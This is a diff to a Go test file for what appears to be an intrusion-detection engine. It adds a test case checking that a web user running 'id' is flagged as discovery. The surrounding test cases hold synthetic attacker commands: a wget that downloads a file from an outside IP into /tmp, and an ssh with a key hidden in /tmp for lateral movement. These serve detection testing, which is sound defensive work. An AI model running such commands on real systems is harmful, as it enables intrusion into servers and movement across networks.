@@ -32,6 +32,9 @@ func TestPerMatchMeaning(t *testing.T) {
 		{"download under the web server", func(s *synth, e *Engine) []*Finding {
 			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "wget -q http://198.51.100.7/x -O /tmp/x"), s.tree)
 		}, check{rule: "web-server-exploitation", attack: []string{"T1105"}, noAttack: []string{"T1095", "T1552.001"}}},
+		{"id run in a web shell", func(s *synth, e *Engine) []*Finding {
+			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/id", "id"), s.tree)
+		}, check{rule: "discovery-by-web-user", attack: []string{"T1033"}, noAttack: []string{"T1057", "T1082", "T1087.001"}}},
 		{"ssh from the web account", func(s *synth, e *Engine) []*Finding {
 			return e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/ssh", "ssh", "-i", "/tmp/.k", "deploy@10.0.0.5"), s.tree)
 		}, check{rule: "lateral-remote-access-from-web", attack: []string{"T1021.004"}, noAttack: []string{"T1609"}}},
